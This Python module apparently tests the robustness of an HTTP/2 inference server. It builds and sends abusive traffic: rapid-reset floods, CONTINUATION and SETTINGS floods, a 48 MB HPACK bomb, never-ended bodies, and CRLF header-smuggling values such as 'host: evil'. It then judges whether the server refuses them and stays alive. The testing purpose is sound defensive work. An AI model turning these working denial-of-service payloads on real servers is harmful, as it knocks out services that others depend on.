"""HTTP/2 abuse: floods, header bombs, windows that overflow, frames that may not be."""

from __future__ import annotations

import itertools
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass

from frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Header,
    Spoken,
    block,
    frame,
    head,
    literal,
    number,
    read,
    read_frames,
    request,
    settings,
    streams,
)
from result import Result
from target import Target
from wire import Heard, Sender, talk, untyped

OPEN = "/v2/health/live"
CANCEL = struct.pack(">I", 8)
MANY = 100_000
RESETS = 10_000
TOP = struct.pack(">I", 0x7FFF_FFFF)
# Bodies that a stranger begins and never ends: so many, each just below what a path takes.
BODIES, BODY = 250, (1 << 20) - 1
BODIES_SECONDS = 10
THREADS = 6
# Where a connection begins. Windows are as large as the node says only once it knows that we know.
START = PREFACE + settings() + frame(SETTINGS, ACK)

Want = Callable[[Spoken, Heard], str]


@dataclass(frozen=True)
class Case:
    """A probe: what is sent after the preface, and what must come of it."""

    name: str
    sent: str
    raw: Sender
    want: Want
    listen: bool = True


def refused(spoken: Spoken, heard: Heard) -> str:
    """The connection is cut, or the stream reset or refused; nothing is answered well."""
    good = [status for status in spoken.statuses.values() if status < 400]
    if good:
        return f"answered with {good[0]}"
    said = spoken.goaway or spoken.resets or spoken.statuses or heard.ended in ("closed", "cut")
    return "" if said else "neither refused nor cut"


def bounded(spoken: Spoken, heard: Heard) -> str:
    """Any outcome will do; memory and life are looked at for every case."""
    return ""


def cut(spoken: Spoken, heard: Heard) -> str:
    """The connection does not survive it."""
    return "" if heard.ended in ("closed", "cut") else f"the connection is {heard.ended}"


def served(spoken: Spoken, heard: Heard) -> str:
    """Every answer is 200."""
    return "" if set(spoken.statuses.values()) == {200} else f"answered {spoken.statuses}"


def floods(target: Target, token: Header) -> Iterator[Case]:
    """Frames that cost the sender little."""
    pair = [request(n, head(OPEN)) + frame(RST_STREAM, 0, n, CANCEL) for n in streams(RESETS)]
    yield Case("rapid reset", f"{RESETS:,} GETs, each reset at once", pair, bounded)
    question = head(target.infer, token, method=b"POST")
    body = frame(DATA, 0, 0, target.question)
    costly = [
        request(n, question, end=False)
        + body[:5] + struct.pack(">I", n) + body[9:]
        + frame(RST_STREAM, 0, n, CANCEL)
        for n in streams(RESETS)
    ]  # fmt: skip
    yield Case("rapid reset of predictions", f"{RESETS:,}, each reset at once", costly, bounded)
    for name, made in {
        "a window of 0": lambda n: frame(WINDOW_UPDATE, 0, n, bytes(4)),
        "a window that overflows": lambda n: frame(WINDOW_UPDATE, 0, n, TOP),
        "data after the end": lambda n: frame(DATA, 0, n, b"x"),
    }.items():
        faults = [request(n, head(OPEN)) + made(n) for n in streams(RESETS)]
        yield Case(f"made to reset by {name}", f"{RESETS:,} streams", faults, cut)
    opened = [request(n, head(OPEN), end=False) for n in streams(RESETS)]
    yield Case("streams without an end", f"{RESETS:,} GETs", opened, bounded)

    first = frame(HEADERS, END_STREAM, 1, block(*head(OPEN)))
    more = frame(CONTINUATION, 0, 1, literal(b"x", b"a" * 16_000)[:16_384])
    yield Case("CONTINUATION flood", "10,000 of 16 KB, no end", [first, *[more] * 10_000], cut)
    empty = frame(CONTINUATION, 0, 1)
    yield Case("CONTINUATION flood, empty", f"{MANY:,}", [first, *[empty] * MANY], cut)
    tables = [settings(HEADER_TABLE_SIZE=n % 2 * 4096) for n in range(MANY)]
    yield Case("SETTINGS flood", f"{MANY:,}", tables, bounded)
    yield Case("SETTINGS flood, nothing read", f"{MANY:,}", tables, bounded, listen=False)
    windows = [settings(INITIAL_WINDOW_SIZE=n % 2 * 65_535) for n in range(MANY)]
    busy = [request(n, head(OPEN), end=False) for n in streams(200)]
    yield Case("SETTINGS flood over 200 streams", f"{MANY:,} windows", [*busy, *windows], bounded)
    pings = [frame(PING, 0, 0, struct.pack(">Q", n)) for n in range(MANY)]
    yield Case("PING flood", f"{MANY:,}", pings, bounded)
    yield Case("PING flood, nothing read", f"{MANY:,}", pings, bounded, listen=False)
    live = [request(n, head(OPEN)) for n in streams(MANY)]
    yield Case("GETs, nothing read", f"{MANY:,}", live, bounded, listen=False)
    uploading = request(1, head(target.infer, token, method=b"POST"), end=False)
    nothing = [uploading, *[frame(DATA, 0, 1)] * MANY]
    yield Case("empty DATA flood", f"{MANY:,} on a prediction", nothing, bounded)
    padded = [uploading, *[frame(DATA, 8, 1, b"\xff" + bytes(255))] * MANY]
    yield Case("padded DATA flood", f"{MANY:,} on a prediction", padded, bounded)
    weights = [frame(PRIORITY, 0, n * 2 + 1, bytes(4) + b"\x10") for n in range(MANY)]
    yield Case("PRIORITY flood", f"{MANY:,} of idle streams", weights, bounded)
    unknown = [frame(0xFA, 0, 0, bytes(64))] * MANY
    yield Case("flood of unknown frames", f"{MANY:,}", unknown, bounded)


def headers(token: Header) -> Iterator[Case]:
    """Header blocks that grow, lie, or smuggle."""
    large = literal(b"x", b"a" * 4000, 0x40)
    bomb = block(*head(OPEN)) + large + number(62, 7, 0x80) * 12_000
    yield Case("HPACK bomb", "16 KB that are 48 MB", [one(bomb)], refused)
    several = [
        one(block(*head(OPEN)) + large + number(62, 7, 0x80) * 12_000, n) for n in streams(200)
    ]
    yield Case("HPACK bombs", "200 streams of 48 MB each", several, refused)
    for name, made in {
        "index 2^62": number(1 << 62, 7, 0x80),
        "index without an end": b"\xff" * 100,
        "table of 4 GB": number(1 << 32, 5, 0x20) + block(*head(OPEN)),
        "text longer than the block": b"\x00\x01x\x7f\xff\xff\xff\x7f",
        "Huffman junk": b"\x00\x81\xff\x84\xff\xff\xff\xff",
        "index 0": b"\x80",
    }.items():
        yield Case(f"HPACK: {name}", f"{len(made)} bytes", [one(made)], cut)
    for name, made in {
        "upper case": [*head(OPEN), (b"X-Up", b"y")],
        "transfer-encoding": [*head(OPEN), (b"transfer-encoding", b"chunked")],
        "connection": [*head(OPEN), (b"connection", b"close")],
        "CRLF in a value": [*head(OPEN), (b"x", b"y\r\nhost: evil")],
        "NUL in a value": [*head(OPEN), (b"x", b"y\0z")],
        "CRLF in a name": [*head(OPEN), (b"x\r\nhost", b"evil")],
        "colon in a name": [*head(OPEN), (b"x:y", b"z")],
        "empty name": [*head(OPEN), (b"", b"z")],
        "two paths": [*head(OPEN), (b":path", b"/v1/models")],
        "unknown pseudo-header": [*head(OPEN), (b":proto", b"x")],
        "pseudo-header after others": [(b"x", b"y"), *head(OPEN)],
        "no method": head(OPEN)[1:],
        "no path": [header for header in head(OPEN) if header[0] != b":path"],
        "empty path": head(""),
        "path with a space": head(f"{OPEN} HTTP/1.1"),
        "path with CRLF": head(f"{OPEN}\r\nx: y"),
        "path without a slash": head("v1/models"),
        "path of 70 KB": head("/" + "a" * 70_000),
        "CONNECT": [(b":method", b"CONNECT"), (b":authority", b"localhost:22")],
        "header of 60 KB": [*head("/v1/models"), (b"x", b"a" * 60_000)],
        "header of 100 KB": [*head(OPEN), (b"x", b"a" * 100_000)],
        "10,000 headers": [*head(OPEN), *[(b"x%d" % n, b"y") for n in range(10_000)]],
        "two lengths": [*head(OPEN), (b"content-length", b"0"), (b"content-length", b"5")],
        "length without a body": [*head(OPEN), (b"content-length", b"5")],
    }.items():
        raw = b"".join(long(1, block(*made)))
        yield Case(f"headers: {name}", f"{len(raw):,} bytes", [raw], refused)
    open_heads = [
        b"".join(
            long(
                n,
                block(*head("/v2/models/x/infer", token, method=b"POST"), (b"x", b"a" * 60_000)),
                end=False,
            )
        )
        for n in streams(250)
    ]
    yield Case("heads of 60 KB, no bodies", "250 streams, 15 MB", open_heads, bounded)


def one(made: bytes, stream: int = 1) -> bytes:
    """A request whose header block is this."""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, made)


def long(stream: int, made: bytes, *, end: bool = True) -> Iterator[bytes]:
    """A request whose header block may need several frames."""
    pieces = [made[at : at + 16_384] for at in range(0, len(made), 16_384)]
    for index, piece in enumerate(pieces):
        kind = CONTINUATION if index else HEADERS
        flags = END_HEADERS if index == len(pieces) - 1 else 0
        yield frame(kind, flags | (END_STREAM if end and not index else 0), stream, piece)


def frames(target: Target, token: Header) -> Iterator[Case]:
    """Frames that may not be sent, or not there, or not with that in it."""
    get, upload = (
        request(1, head(OPEN)),
        request(1, head(target.infer, token, method=b"POST"), end=False),
    )
    sized = head(target.infer, token, (b"content-length", b"5"), method=b"POST")
    for name, pieces in {
        "a frame of 16 MB": [b"\xff\xff\xff" + bytes([DATA, 0, 0, 0, 0, 1])],
        "DATA on stream 0": [frame(DATA, 0, 0, b"x")],
        "DATA on an idle stream": [frame(DATA, 0, 1, b"x")],
        "HEADERS on stream 0": [frame(HEADERS, 5, 0, block(*head(OPEN)))],
        "HEADERS on an even stream": [request(2, head(OPEN))],
        "a stream below the last": [frame(RST_STREAM, 0, 9, CANCEL), get],
        "RST_STREAM of an idle stream": [frame(RST_STREAM, 0, 1, CANCEL)],
        "PUSH_PROMISE of a client": [upload, frame(PUSH_PROMISE, 4, 1, struct.pack(">I", 2))],
        "PING of 7 bytes": [frame(PING, 0, 0, bytes(7))],
        "PING on a stream": [frame(PING, 0, 1, bytes(8))],
        "SETTINGS of 5 bytes": [frame(SETTINGS, 0, 0, bytes(5))],
        "SETTINGS that acknowledge with a payload": [frame(SETTINGS, ACK, 0, bytes(6))],
        "SETTINGS with a window of 2^32 - 1": [settings(INITIAL_WINDOW_SIZE=0xFFFF_FFFF)],
        "WINDOW_UPDATE of 0": [frame(WINDOW_UPDATE, 0, 0, bytes(4))],
        "WINDOW_UPDATE that overflows": [frame(WINDOW_UPDATE, 0, 0, TOP)] * 2,
        "CONTINUATION out of nowhere": [frame(CONTINUATION, 4, 1, block(*head(OPEN)))],
        "another frame inside a header block": [
            frame(HEADERS, 1, 1, b"\x82"),
            frame(PING, 0, 0, bytes(8)),
        ],
        "more padding than payload": [upload, frame(DATA, 8, 1, b"\xff")],
        "a stream that depends on itself": [frame(PRIORITY, 0, 1, struct.pack(">IB", 1, 0))],
    }.items():
        yield Case(f"frames: {name}", f"{sum(map(len, pieces))} bytes", pieces, refused)
    more = [request(1, sized, end=False), frame(DATA, END_STREAM, 1, b"x" * 10)]
    yield Case("frames: more bytes than the length", "10 for 5", more, refused)
    fewer = [request(1, sized, end=False), frame(DATA, END_STREAM, 1, b"x")]
    yield Case("frames: fewer bytes than the length", "1 for 5", fewer, refused)
    over = [upload, *[frame(DATA, 0, 1, bytes(16_384))] * 1000]
    yield Case("frames: bytes beyond every window", "16 MB", over, refused)
    yield Case("a plain GET", "to see that these streams work", [get], served)


def bodies(method: str, path: str) -> Sender:
    """Bodies of a stranger, kept inside the connection's window and never ended."""

    def send(heard: bytearray) -> Iterator[bytes]:
        end = time.monotonic() + BODIES_SECONDS
        plain = head(path, method=method.encode())
        yield START + b"".join(request(stream, plain, end=False) for stream in streams(BODIES))
        # What the protocol begins with; the node raises it at once.
        window, seen, left = 65_535, 0, dict.fromkeys(streams(BODIES), BODY)
        while left and time.monotonic() < end:
            for kind, _, stream, payload in read_frames(heard[seen:]):
                seen += 9 + len(payload)
                if kind == WINDOW_UPDATE and stream == 0:
                    window += int.from_bytes(payload)
                elif kind == RST_STREAM or (kind == DATA and stream in left):
                    # Answered, so nobody waits for the rest.
                    left.pop(stream, None)
            size = min(16_384, window)
            if not size or not left:
                yield b""
                continue
            stream = next(iter(left))
            size = min(size, left[stream])
            window, left[stream] = window - size, left[stream] - size
            if not left[stream]:
                del left[stream]
            yield frame(DATA, 0, stream, bytes(size))

    return send


def run_case(target: Target, case: Case) -> Result:
    """Sends one case on a connection of its own and judges what came of it."""
    raw = case.raw
    pieces = raw if callable(raw) else itertools.chain([START], raw)
    heard = talk(target, pieces, "h2", quiet=1, listen=case.listen)
    spoken = read(heard.data)
    complaints = [case.want(spoken, heard)]
    complaints += [untyped(answer) for answer in spoken.answers()]
    if heard.ended == "hung":
        complaints.append(f"no answer and no cut in {heard.seconds:.0f} s")
    complaints = [complaint for complaint in complaints if complaint][:2]
    counts = Counter(spoken.statuses.values()) + Counter(spoken.resets.values())
    shown = [f"{what}×{count}" if count > 1 else str(what) for what, count in counts.items()]
    shown += [f"GOAWAY {spoken.goaway}"] if spoken.goaway else []
    shown += [f"{spoken.pongs:,} pongs"] if spoken.pongs else []
    outcome = f"{' '.join(shown) or 'no answer'}, {heard.ended} after {heard.seconds:.1f} s"
    return Result(case.name, case.sent, "; ".join([outcome, *complaints]), not complaints)


def probe(target: Target) -> Iterator[Result]:
    """What is small several at a time; what is large one by one, each with the memory it took."""
    token = (b"authorization", b"Bearer " + target.tokens["prober"].encode())
    small = [*frames(target, token), *headers(token)]
    with target.growth() as grown, ThreadPoolExecutor(THREADS) as pool:
        yield from pool.map(lambda case: run_case(target, case), small)
    trouble = target.alive()
    outcome = f"{grown}, {trouble or 'alive'}"
    yield Result("frames, headers: all", f"{len(small)} probes", outcome, grown.ok and not trouble)
    for case in floods(target, token):
        yield weighed(target, case)
    for method, path in target.takers():
        # Memory that a node was given once it keeps, so that each of these needs a fresh one.
        with target.another(f"bodies-{path.strip('/').replace('/', '-')}") as fresh:
            sent = f"{BODIES} bodies of 1 MiB, never ended, without a token"
            case = Case(f"bodies: {method} {path}", sent, bodies(method, path), refused)
            yield weighed(fresh, case)


def weighed(target: Target, case: Case) -> Result:
    """Runs one case alone, and holds the memory against it that it took."""
    with target.growth() as grown:
        result = run_case(target, case)
    trouble = target.alive()
    outcome = "; ".join(filter(None, [f"{result.outcome}, {grown}", trouble]))
    return Result(case.name, case.sent, outcome, result.ok and grown.ok and not trouble)
